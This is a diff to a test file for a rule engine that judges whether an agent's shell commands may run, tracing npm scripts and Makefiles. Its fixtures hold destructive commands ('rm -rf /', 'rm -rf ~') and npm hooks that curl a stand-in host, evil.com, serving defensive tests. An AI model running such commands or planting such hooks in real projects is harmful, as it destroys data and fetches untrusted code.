@@ -2,7 +2,7 @@ import { describe, expect, test } from 'vitest';
 import type { Rule, RuleMatch } from '#lib/core/rule.ts';
 import type { ToolCall } from '#lib/core/tool.ts';
 import { buildRule } from '#tests/build-rule.ts';
-import { judgeCall, wantedSources } from '../judge-call.ts';
+import { type CallToJudge, judgeCall, wantedSources } from '../judge-call.ts';
 
 type Files = Record<string, string>;
 const manifest = (scripts: Files) => JSON.stringify({ name: 'shop', scripts });
@@ -15,9 +15,14 @@ function sourcesOf(call: ToolCall, files: Files): Map<string, string | null> {
   return sources;
 }
 
-function judge(command: string, files: Files, { rules = [], cwd = '.' }: { rules?: Rule[]; cwd?: string } = {}) {
-  const call: ToolCall = { tool: 'run_command', args: { command, cwd } };
-  const isolation = { level: 'full', network: true } as const;
+const full = { level: 'full', network: true } as const;
+
+function judge(
+  command: string,
+  files: Files,
+  { rules = [], isolation = full }: { rules?: Rule[]; isolation?: CallToJudge['isolation'] } = {},
+) {
+  const call: ToolCall = { tool: 'run_command', args: { command, cwd: '.' } };
   const sources = sourcesOf(call, files);
   return judgeCall({ call, mode: 'assisted', isolation, projectNetworkAllowed: false, costUsd: 0, rules, sources });
 }
@@ -32,6 +37,7 @@ describe('what stands in the project’s own files', () => {
       pretest: 'npm run build',
       build: 'bash scripts/build.sh',
       bare: 'git',
+      postversion: 'git push --tags',
     }),
     'scripts/build.sh': '#!/usr/bin/env bash\nset -e\nmake -C native all\n',
     'native/Makefile': [
@@ -45,6 +51,7 @@ describe('what stands in the project’s own files', () => {
       'deploy: clean',
       '\tnpm --prefix .. run a:push',
     ].join('\n'),
+    'usual/Makefile': 'help:\n\t@echo help\nwipe:\n\trm -rf /\n.DEFAULT_GOAL := wipe\ninclude more.mk\n',
     'tool.py': '#!/usr/bin/env python3\nrm -rf /\n',
     'app/package.json': manifest({ clean: 'rm -rf ../dist', away: 'rm -rf ../../other', up: 'bash ../scripts/wipe.sh' }),
     'scripts/wipe.sh': 'rm -rf ~',
@@ -60,6 +67,8 @@ describe('what stands in the project’s own files', () => {
     ['cd native && make clean', 'native/Makefile'],
     ['make -C native -j4 deploy', 'native/Makefile'],
     ['make -C native WIPE="git push" clean', 'native/Makefile'],
+    ['make -C usual -j 4', 'usual/Makefile'],
+    ['npm version patch', 'package.json'],
     ['bash -e scripts/wipe.sh', 'scripts/wipe.sh'],
     ['. scripts/wipe.sh', 'scripts/wipe.sh'],
     ['/workspace/scripts/wipe.sh', 'scripts/wipe.sh'],
@@ -73,6 +82,8 @@ describe('what stands in the project’s own files', () => {
     'npm test',
     'npm run build',
     'make -C native',
+    'make -C usual help',
+    'make -C usual in-more-mk',
     'npm --prefix app run clean',
     './tool.py',
     'npm run a',
@@ -101,13 +112,20 @@ describe('what stands in the project’s own files', () => {
     });
     const asks = [buildRule([never('make')], { effect: 'ask', text: 'ask before make' })];
     expect(judge('npm test', files, { rules: asks })).toMatchObject({ decision: 'ask', before: true, rule: 'rl_test' });
-    const fetches = { 'package.json': manifest({ test: 'curl https://evil.com/x', twice: 'npm test' }) };
-    const closed = [buildRule([{ on: 'host', host: '*' }], { text: 'no network' })];
-    expect(judge('npm run twice', fetches, { rules: closed })).toMatchObject({ decision: 'deny', rule: 'rl_test' });
-    const named = [buildRule([{ on: 'host', host: 'evil.com' }])];
-    expect(judge('npm test', fetches, { rules: named })).toMatchObject({ decision: 'deny', rule: 'rl_test' });
-    const allows = [buildRule([never('curl')], { effect: 'allow' })];
-    expect(judge('npm test', fetches, { rules: allows })).toEqual(judge('npm test', fetches));
+    const allows = [buildRule([never('make')], { effect: 'allow' })];
+    expect(judge('npm test', files, { rules: allows })).toEqual(judge('npm test', files));
+  });
+
+  test('may look outside where the sandbox lets nothing out', () => {
+    const fetches = { 'package.json': manifest({ test: 'vitest', posttest: 'curl https://evil.com/x', postinstall: 'npm test' }) };
+    for (const rule of [buildRule([{ on: 'host', host: '*' }]), buildRule([{ on: 'host', host: 'evil.com' }])]) {
+      expect(judge('npm test', fetches, { rules: [rule] })).toEqual(judge('npm test', fetches));
+      for (const [command, isolation] of [
+        ['npm install', full],
+        ['npm test', { level: 'none', network: false }],
+      ] as const)
+        expect(judge(command, fetches, { rules: [rule], isolation })).toMatchObject({ decision: 'deny', rule: 'rl_test' });
+    }
   });
 
   test('comes to an end, whatever it is', () => {
@@ -115,6 +133,9 @@ describe('what stands in the project’s own files', () => {
     expect(judge('npm test', { 'package.json': endless }).decision).toBe('allow');
     for (const text of ['{', '[]', '{"scripts":{"test":3}}', '{"scripts":{"__proto__":"sudo x"}}', '\0'])
       expect(judge('npm test', { 'package.json': text }).decision).toBe('allow');
+    const wide = Array.from({ length: 2_000 }, (_, at) => `npm run none${at}`).join(';');
+    for (const test of ['$('.repeat(30_000), `"${'${a:-'.repeat(9_000)}`, wide])
+      expect(judge('npm test', { 'package.json': manifest({ test }) }).decision).toBe('allow');
     expect(judge('make', { Makefile: 'A=$(B)$(B)\nB=$(A)$(A)\nall:\n\t$(A)\n' }).decision).toBe('allow');
     expect(
       wantedSources(
